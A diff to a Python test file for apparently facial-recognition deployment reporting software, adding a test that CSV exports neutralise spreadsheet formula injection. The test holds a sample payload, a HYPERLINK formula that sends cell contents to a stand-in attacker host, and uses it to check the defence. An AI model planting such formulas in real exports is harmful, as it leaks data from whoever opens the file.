@@ -27,8 +27,8 @@ from openlfr.deployments.service import (
     start_deployment,
 )
 from openlfr.deployments.types import RunCounts
-from openlfr.reports.deployment import build_record
-from openlfr.reports.transparency import build_transparency, charts
+from openlfr.reports.deployment import build_record, to_csv
+from openlfr.reports.transparency import build_transparency, charts, render_transparency
 from openlfr.store.alert_models import AlertRecord
 from openlfr.store.context import Store, open_store
 from tests.deployments.helpers import T0, alert_event, make_snapshot, plan
@@ -51,13 +51,26 @@ def test_tally_maps_review_and_outcome_to_the_published_categories() -> None:
     assert (t.unreviewed, t.engagements, t.arrests) == (1, 3, 1)
 
 
-def _deployment(store: Store, name: str, day: int, reviews: list[tuple[str, str | None]], faces: int | None) -> str:
+def _deployment(
+    store: Store,
+    name: str,
+    day: int,
+    reviews: list[tuple[str, str | None]],
+    faces: int | None,
+    location: str = "High Street, outside the station",
+) -> str:
     start = T0 + timedelta(days=day)
     with store.db.session() as session:
         snapshot = make_snapshot(session, templates=4)
         d = create_deployment(
             session,
-            plan(snapshot.id, name=name, planned_start=start, planned_end=start + timedelta(hours=3)),
+            plan(
+                snapshot.id,
+                name=name,
+                location=location,
+                planned_start=start,
+                planned_end=start + timedelta(hours=3),
+            ),
             actor="a",
             created_by="a",
             config=GovernanceConfig(),
@@ -162,3 +175,15 @@ def test_a_final_record_keeps_its_figures_after_the_purge_and_an_erasure(store: 
     assert after == before
     assert (after.alerts, after.arrests, after.true_confirmed, after.final) == (7, 1, 2, True)
     assert after.false_alert_rate == pytest.approx(2 / 5000)
+
+
+def test_deployment_and_transparency_csv_neutralise_typed_formulas(store: Store) -> None:
+    link = '=HYPERLINK("http://evil.example/?leak="&B2,"details")'
+    deployment_id = _deployment(store, "@SUM(1+1)", 0, REVIEWS[:1], faces=10, location=link)
+    with store.db.session() as session:
+        record = build_record(session, deployment_id)
+        report = build_transparency(session, T0 - timedelta(days=1), T0 + timedelta(days=30))
+    for text in (to_csv([record]), render_transparency(report, "csv")):
+        (row,) = csv.DictReader(io.StringIO(text))
+        assert (row["name"], row["location"]) == ("'@SUM(1+1)", "'" + link)
+        assert row["alerts"] == "1"  # numbers are written as numbers
